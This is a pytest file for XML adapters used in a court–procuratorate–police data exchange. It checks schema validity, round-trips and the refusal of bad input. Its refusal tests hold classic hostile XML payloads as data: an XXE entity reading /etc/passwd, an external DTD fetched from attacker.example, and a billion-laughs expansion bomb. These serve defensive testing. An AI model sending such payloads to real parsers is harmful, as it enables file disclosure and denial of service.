"""The shared XML machinery, exercised through the three adapters that use it: every sample is
valid and round-trips, rendering tolerates projections, and hostile or broken input is refused
with a stable code, a line and a field, never with another exception."""

from __future__ import annotations

import functools
import re
from concurrent.futures import ThreadPoolExecutor
from enum import StrEnum
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import xmlschema
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from pydantic import BaseModel

from adapters.base import Adapter, InboundError, UnsupportedKind
from adapters.court import ADAPTER as COURT
from adapters.court import native as court_native
from adapters.police import ADAPTER as POLICE
from adapters.police import native as police_native
from adapters.procuratorate import ADAPTER as PROCURATORATE
from adapters.procuratorate import native as procuratorate_native
from adapters.xmlcodec import ERROR_CODES, GENDER_GBT_2261, MAX_DOCUMENT_BYTES
from contracts.catalog import spec_of
from contracts.common import Agency, CorrectionType, DocumentKind, Gender, PrincipalPenalty, SupervisionLevel
from tests.adapters.stamping import claims_of, kind_of, samples, schema_for, stamp

ADAPTERS: dict[str, Adapter] = {adapter.name: adapter for adapter in (COURT, PROCURATORATE, POLICE)}
SAMPLES = [pytest.param(name, path, id=f"{name}/{path.name}") for name in ADAPTERS for path in samples(name)]
BY_ADAPTER = pytest.mark.parametrize("name", list(ADAPTERS))


@functools.cache
def lxml_schema(path: Path) -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(path)))


@functools.cache
def second_schema(path: Path) -> xmlschema.XMLSchema:
    return xmlschema.XMLSchema(str(path))


def assert_valid(data: bytes, agency: str) -> None:
    """Valid for lxml (libxml2) and for xmlschema, an independent implementation of XSD 1.0."""
    xsd = schema_for(data, agency)
    root = etree.fromstring(data)  # lxml decodes the declared encoding by itself here
    lxml_schema(xsd).assertValid(root)
    second_schema(xsd).validate(root)


def refusal(adapter: Adapter, data: bytes) -> InboundError:
    with pytest.raises(InboundError) as caught:
        adapter.parse(data)
    assert caught.value.code in ERROR_CODES
    return caught.value


def first_sample(name: str) -> bytes:
    """The adapter's handover.documents sample: every XML adapter has one, in UTF-8, with a
    person, a sentence and attachments."""
    return next(path for path in samples(name) if path.name == "handover.documents.xml").read_bytes()


# --- samples and round trips ------------------------------------------------------------------


def test_every_adapter_has_a_sample_of_every_kind_it_speaks() -> None:
    for name, adapter in ADAPTERS.items():
        assert {kind_of(path) for path in samples(name)} == adapter.kinds_in | adapter.kinds_out


@BY_ADAPTER
def test_an_agency_sends_exactly_the_kinds_its_contract_lets_it_send(name: str) -> None:
    agency = Agency(name)
    adapter = ADAPTERS[name]
    assert not adapter.kinds_in & adapter.kinds_out
    assert all(agency in spec_of(kind).senders for kind in adapter.kinds_in)
    assert all(agency not in spec_of(kind).senders for kind in adapter.kinds_out)


@pytest.mark.parametrize("module", [court_native, procuratorate_native, police_native], ids=list(ADAPTERS))
@pytest.mark.parametrize(
    ("table", "enum"),
    [
        ("GENDER", Gender),
        ("PENALTY", PrincipalPenalty),
        ("CORRECTION_TYPE", CorrectionType),
        ("DOCUMENT_KIND", DocumentKind),
        ("SUPERVISION_LEVEL", SupervisionLevel),
    ],
)
def test_code_tables_cover_every_canonical_value(module: ModuleType, table: str, enum: type[StrEnum]) -> None:
    codec = getattr(module, table, GENDER_GBT_2261)  # no GENDER of its own: GB/T 2261.1 codes
    for member in enum:
        assert codec.inbound(codec.outbound(member.value)) == member.value


@pytest.mark.parametrize(("name", "sample"), SAMPLES)
def test_sample_is_valid_against_its_xsd(name: str, sample: Path) -> None:
    assert_valid(sample.read_bytes(), name)


@pytest.mark.parametrize(("name", "sample"), SAMPLES)
def test_sample_round_trips(name: str, sample: Path) -> None:
    adapter = ADAPTERS[name]
    draft = adapter.parse(sample.read_bytes())
    assert draft.kind == kind_of(sample)
    message = stamp(draft)
    rendered = adapter.render(message)
    assert rendered.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    assert_valid(rendered, name)
    again = adapter.parse(rendered)
    assert again.kind == draft.kind
    assert again.case == draft.case
    assert again.in_reply_to == draft.in_reply_to
    assert again.payload == draft.payload
    assert [claim.model_dump(mode="json") for claim in again.attachments] == claims_of(message)
    if draft.occurred_at is not None:
        assert again.occurred_at == draft.occurred_at


@pytest.mark.parametrize(("name", "sample"), SAMPLES)
def test_rendering_carries_the_envelope(name: str, sample: Path) -> None:
    """Message id and sender reach the recipient; parsing ignores what a document claims of them."""
    adapter = ADAPTERS[name]
    message = stamp(adapter.parse(sample.read_bytes()))
    text = adapter.render(message).decode("utf-8")
    assert message["message_id"] in text
    assert message["sender"]["unit_name"] in text and message["sender"]["unit_code"] in text
    for document in message["documents"]:
        assert document["sha256"] in text and document["media_type"] in text and str(document["size"]) in text


def _without_optional(data: dict[str, Any], model: type[BaseModel]) -> dict[str, Any]:
    """What a projection might leave: every field that may be None removed, at every level."""
    kept: dict[str, Any] = {}
    for name, info in model.model_fields.items():
        if name not in data or (not info.is_required() and info.default is None):
            continue
        nested = info.annotation
        value = data[name]
        if isinstance(nested, type) and issubclass(nested, BaseModel) and isinstance(value, dict):
            value = _without_optional(value, nested)
        kept[name] = value
    return kept


@pytest.mark.parametrize(("name", "sample"), SAMPLES)
def test_rendering_tolerates_missing_optional_fields(name: str, sample: Path) -> None:
    adapter = ADAPTERS[name]
    message = stamp(adapter.parse(sample.read_bytes()))
    payload_model = spec_of(message["kind"]).payload
    message["payload"] = _without_optional(message["payload"], payload_model)
    message["documents"] = []
    del message["in_reply_to"], message["recipients"]
    rendered = adapter.render(message)
    assert_valid(rendered, name)
    assert adapter.parse(rendered).payload == payload_model.model_validate(message["payload"])


@BY_ADAPTER
def test_rendering_drops_characters_xml_cannot_hold(name: str) -> None:
    adapter = ADAPTERS[name]
    message = stamp(adapter.parse(first_sample(name)))
    message["case"]["case_number"] = "（2025）鲁1621刑初123号\x0b"
    rendered = adapter.render(message)
    assert adapter.parse(rendered).case.case_number == "（2025）鲁1621刑初123号"


@BY_ADAPTER
def test_rendering_an_unsupported_kind_says_so(name: str) -> None:
    message = stamp(ADAPTERS[name].parse(first_sample(name)))
    message["kind"] = "transfer.request"  # justice bureau to justice bureau: canonical JSON only
    with pytest.raises(UnsupportedKind):
        ADAPTERS[name].render(message)


# --- refusals ---------------------------------------------------------------------------------

XXE_FILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE r [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<r>&xxe;</r>"""
XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<r/>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""
GBK_DOCTYPE = '<?xml version="1.0" encoding="GBK"?>\n<!doctype 判决 SYSTEM "判决.dtd">\n<判决/>'.encode("gbk")


@BY_ADAPTER
@pytest.mark.parametrize(
    ("data", "line"),
    [(XXE_FILE, 2), (XXE_NETWORK, 2), (BILLION_LAUGHS, 2), (GBK_DOCTYPE, 2)],
    ids=["xxe-file", "xxe-network", "billion-laughs", "gbk-lowercase-doctype"],
)
def test_dtd_and_entities_are_refused_before_parsing(name: str, data: bytes, line: int) -> None:
    error = refusal(ADAPTERS[name], data)
    assert (error.code, error.line) == ("xml_forbidden_dtd", line)


@BY_ADAPTER
@pytest.mark.parametrize("data", [b"", b" \r\n\t "], ids=["empty", "blank"])
def test_empty_body_is_refused(name: str, data: bytes) -> None:
    assert refusal(ADAPTERS[name], data).code == "xml_empty"


@BY_ADAPTER
@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", bytes(range(256))],
    ids=["pdf", "png", "all-bytes"],
)
def test_binary_garbage_is_not_xml(name: str, data: bytes) -> None:
    error = refusal(ADAPTERS[name], data)
    assert (error.code, error.line) == ("xml_malformed", 1)


@BY_ADAPTER
def test_malformed_xml_names_its_line(name: str) -> None:
    data = first_sample(name).replace(b"</", b"<", 3)
    error = refusal(ADAPTERS[name], data)
    assert error.code == "xml_malformed"
    assert error.line is not None and error.line > 1
    assert error.message.startswith(f"第{error.line}行")


@BY_ADAPTER
def test_ten_thousand_levels_of_nesting_are_refused(name: str) -> None:
    data = b'<?xml version="1.0"?>\n' + b"<a>" * 10_000 + b"</a>" * 10_000
    error = refusal(ADAPTERS[name], data)
    assert (error.code, error.line) == ("xml_limit_exceeded", 2)


@BY_ADAPTER
def test_oversized_document_is_refused(name: str) -> None:
    data = b"<a>" + b" " * MAX_DOCUMENT_BYTES + b"</a>"
    assert refusal(ADAPTERS[name], data).code == "xml_limit_exceeded"


@BY_ADAPTER
@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<a/>',
        b'<?xml version="1.0" encoding="GB2312"?>\n<a/>',
        "\ufeff<a/>".encode("utf-16-le"),
        "\ufeff<a/>".encode("utf-16-be"),
    ],
    ids=["latin1", "gb2312", "utf-16-le", "utf-16-be"],
)
def test_unsupported_encoding_is_refused(name: str, data: bytes) -> None:
    error = refusal(ADAPTERS[name], data)
    assert (error.code, error.line) == ("xml_encoding_unsupported", 1)


@BY_ADAPTER
def test_gbk_bytes_declared_utf8_are_refused_with_their_line(name: str) -> None:
    text = first_sample(name).decode("utf-8")
    assert 'encoding="UTF-8"' in text
    first_chinese_line = next(number for number, line in enumerate(text.splitlines(), 1) if not line.isascii())
    error = refusal(ADAPTERS[name], text.encode("gbk"))
    assert (error.code, error.line) == ("xml_encoding_invalid", first_chinese_line)
    assert error.message.startswith(f"第{first_chinese_line}行")


@BY_ADAPTER
def test_a_bom_contradicting_the_declaration_is_refused(name: str) -> None:
    assert (
        refusal(ADAPTERS[name], b'\xef\xbb\xbf<?xml version="1.0" encoding="GBK"?><a/>').code == "xml_encoding_invalid"
    )


@BY_ADAPTER
def test_another_agencys_document_is_the_wrong_namespace(name: str) -> None:
    other = next(other for other in ADAPTERS if other != name)
    error = refusal(ADAPTERS[name], first_sample(other))
    assert error.code == "xml_wrong_namespace"
    assert f"urn:xietong:{other}:" in error.message and f"urn:xietong:{name}:" in error.message
    assert error.line is not None and error.field is not None


@BY_ADAPTER
def test_a_version_the_adapter_does_not_speak_is_the_wrong_namespace(name: str) -> None:
    data = re.sub(rb"(urn:xietong:\w+:\w+:)1", rb"\g<1>2", first_sample(name), count=1)
    error = refusal(ADAPTERS[name], data)
    assert error.code == "xml_wrong_namespace"
    assert ":2" in error.message


@BY_ADAPTER
def test_an_unknown_root_in_a_known_namespace_is_an_unknown_document(name: str) -> None:
    root = etree.fromstring(first_sample(name))
    root.tag = etree.QName(root.tag).text.replace(etree.QName(root).localname, "CXHXJY")  # 撤销缓刑建议
    error = refusal(ADAPTERS[name], etree.tostring(root, xml_declaration=True, encoding="UTF-8"))
    assert (error.code, error.field) == ("xml_unknown_document", "CXHXJY")


def _with_text(data: bytes, element: str, text: str) -> tuple[bytes, int]:
    """The sample with the first `element`'s text replaced, and that element's line."""
    root = etree.fromstring(data)
    target = next(node for node in root.iter() if etree.QName(node).localname == element)
    target.text = text
    changed = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    line = next(node.sourceline for node in etree.fromstring(changed).iter() if etree.QName(node).localname == element)
    return changed, line


DIVISION_ELEMENT = {"court": "行政区划代码", "procuratorate": "XZQH", "police": "JZDXZQH"}
ID_ELEMENT = {"court": "公民身份号码", "procuratorate": "ZJHM", "police": "GMSFHM"}


@BY_ADAPTER
def test_a_letter_in_a_division_code_is_a_schema_violation(name: str) -> None:
    data, line = _with_text(first_sample(name), DIVISION_ELEMENT[name], "37162A")
    error = refusal(ADAPTERS[name], data)
    assert (error.code, error.line, error.field) == ("xml_schema_violation", line, DIVISION_ELEMENT[name])
    assert error.message.startswith(f"第{line}行 <{DIVISION_ELEMENT[name]}>：") and "37162A" in error.message


@BY_ADAPTER
def test_a_wrong_check_digit_names_the_element_and_line(name: str) -> None:
    good = ADAPTERS[name].parse(first_sample(name)).payload.person.id_number
    bad = good[:-1] + ("1" if good[-1] != "1" else "2")
    data, line = _with_text(first_sample(name), ID_ELEMENT[name], bad)
    error = refusal(ADAPTERS[name], data)
    assert (error.code, error.line, error.field) == ("field_invalid", line, ID_ELEMENT[name])
    assert error.message == f"第{line}行 <{ID_ELEMENT[name]}>：居民身份证号码“{bad}”无效：校验位错误"


def test_concurrent_parsing_reports_each_document_its_own_error() -> None:
    """Schemas are compiled once and shared between threads; each refusal stays with its document."""
    good = first_sample("court")
    bad_division, _ = _with_text(good, "行政区划代码", "37162A")
    bad_gender = good.replace("<性别>男</性别>".encode(), "<性别>M</性别>".encode())

    def outcome(data: bytes) -> str | None:
        try:
            COURT.parse(data)
        except InboundError as error:
            return error.field
        return None

    work = [good, bad_division, bad_gender] * 100
    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(outcome, work))
    assert results == [None, "行政区划代码", "性别"] * 100


# --- fuzzing: nothing but InboundError ever escapes -------------------------------------------

FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _parse_or_refuse(adapter: Adapter, data: bytes) -> None:
    try:
        adapter.parse(data)
    except InboundError as error:
        assert error.code in ERROR_CODES
        assert error.message


@BY_ADAPTER
@FUZZ
@given(data=st.binary(max_size=2048))
def test_arbitrary_bytes_only_ever_raise_inbound_error(name: str, data: bytes) -> None:
    _parse_or_refuse(ADAPTERS[name], data)


@BY_ADAPTER
@FUZZ
@given(data=st.data())
def test_mutated_samples_only_ever_raise_inbound_error(name: str, data: st.DataObject) -> None:
    sample = data.draw(st.sampled_from(samples(name))).read_bytes()
    start = data.draw(st.integers(0, len(sample)))
    end = data.draw(st.integers(start, min(len(sample), start + 64)))
    splice = data.draw(st.binary(max_size=64))
    _parse_or_refuse(ADAPTERS[name], sample[:start] + splice + sample[end:])


@BY_ADAPTER
@FUZZ
@given(data=st.data())
def test_samples_with_arbitrary_element_text_only_ever_raise_inbound_error(name: str, data: st.DataObject) -> None:
    root = etree.fromstring(data.draw(st.sampled_from(samples(name))).read_bytes())
    leaves = [node for node in root.iter() if len(node) == 0]
    target = data.draw(st.sampled_from(leaves))
    alphabet = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
    target.text = data.draw(
        st.text(alphabet, max_size=40) | st.sampled_from(["0", "-1", "2025-02-30", "20250230", "X" * 19])
    )
    _parse_or_refuse(ADAPTERS[name], etree.tostring(root, xml_declaration=True, encoding="UTF-8"))
